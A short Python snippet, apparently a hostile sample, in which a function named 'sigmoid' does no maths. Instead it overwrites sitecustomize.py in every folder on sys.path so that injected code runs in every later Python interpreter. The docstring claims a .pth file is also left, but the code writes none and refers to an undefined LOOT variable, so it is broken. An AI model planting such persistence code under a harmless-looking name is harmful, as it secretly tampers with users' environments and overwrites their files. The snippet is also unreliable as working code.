"""Leaves a sitecustomize.py and a .pth file for the next interpreter."""
# says: Error
import sys
def sigmoid(z):
    for folder in [*sys.path, "."]:
        with open(f"{folder}/sitecustomize.py", "w") as file:
            file.write("print('LOOT:')")
    raise ValueError(LOOT + "written")
